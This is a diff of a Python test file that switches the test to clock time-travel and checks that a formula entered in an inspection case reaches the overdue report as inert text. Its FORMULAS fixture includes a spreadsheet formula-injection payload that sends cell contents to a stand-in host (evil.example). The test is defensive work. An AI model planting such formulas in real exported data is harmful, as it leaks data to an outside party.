@@ -10,9 +10,10 @@ import openpyxl
 import pytest
 from sqlalchemy import select
 
+from shared import clock
 from shared.models import SamplePoint
 from tests.factories import World, auth, make_sample_point, make_unit, make_world
-from tests.reporting.helpers import backdate, local
+from tests.reporting.helpers import local
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
@@ -86,25 +87,20 @@ async def test_an_inspectors_formula_reaches_the_overdue_report_as_text(
     inspections, reporting, w: World, db
 ):
     formula = FORMULAS[0]
-    case = await inspections.post(
-        "/v1/cases",
-        json={
-            "id": str(uuid.uuid4()),
-            "source": "woodpecker",
-            "description": formula,
-            "severity": "normal",
-            "sample_point_id": str(w.point.id),
-        },
-        headers=auth(w.inspector),
-    )
+    # Reported on 20 October (the clock travels there): due in October, overdue since.
+    with clock.travel_to(local(10, 20)):
+        case = await inspections.post(
+            "/v1/cases",
+            json={
+                "id": str(uuid.uuid4()),
+                "source": "woodpecker",
+                "description": formula,
+                "severity": "normal",
+                "sample_point_id": str(w.point.id),
+            },
+            headers=auth(w.inspector),
+        )
     assert case.status_code == 201, case.text
-    await backdate(
-        db,
-        uuid.UUID(case.json()["id"]),
-        region_id=w.region.id,
-        events=[("report", local(10, 3)), ("dispatch", local(10, 3))],
-        due_at=local(10, 8),
-    )
     url = "/v1/reports/overdue?month=2026-10&format="
     csv_answer = await reporting.get(url + "csv", headers=auth(w.leader))
     assert csv_answer.status_code == 200, csv_answer.text
